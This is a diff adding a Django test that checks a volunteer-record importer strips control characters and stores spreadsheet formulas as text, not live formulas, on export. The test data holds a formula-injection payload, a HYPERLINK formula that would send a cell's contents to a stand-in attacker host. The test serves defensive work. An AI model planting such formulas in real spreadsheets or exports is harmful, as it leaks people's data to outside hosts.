@@ -158,3 +158,30 @@ def test_a_sheet_title_from_user_text_is_made_valid():
     from wenming.core.xlsx import build_workbook
 
     assert build_workbook("2026[创建]/测评:表?\x01" * 3, ["a"], []).active.title == "2026 创建  测评 表 2026 创建  测评 表 202"
+
+
+def test_an_import_is_an_edge_too_control_characters_do_not_get_in(cast, campaign, client_for):
+    """Issue 19.4 through the importers: a control character in an uploaded sheet is dropped while reading (every
+    importer reads cells through `cell_text` or `text_of`), and a formula-looking name is stored and exported as
+    text."""
+    from django.core.files.uploadedfile import SimpleUploadedFile
+    from django.urls import reverse
+
+    from wenming.activities.models import VolunteerImportDraft, VolunteerRecord
+    from wenming.core.tables import text_of
+
+    assert text_of("\x01劝导\x1f") == "劝导"
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
+    quoted = formula.replace('"', '""')
+    text = f'姓名,服务时长,服务日期,项目名称\n干警甲,2,2021-04-02,"\x01{quoted}\x7f"\n'
+    client = client_for(cast["office"])
+    query = f"?campaign={campaign.pk}"
+    upload = client.post(reverse("activities:volunteer_import") + query,
+                         {"file": SimpleUploadedFile("志愿.csv", text.encode())})
+    assert upload.status_code == 302, upload.content.decode()[:500]
+    client.post(reverse("activities:volunteer_preview", args=[VolunteerImportDraft.objects.get().token]))
+
+    assert VolunteerRecord.objects.get().activity_name == formula
+    exported = client.get(reverse("activities:volunteer_export") + query)
+    cells = [cell for row in load_workbook(io.BytesIO(exported.content)).active.iter_rows() for cell in row]
+    assert not any(cell.data_type == "f" for cell in cells)
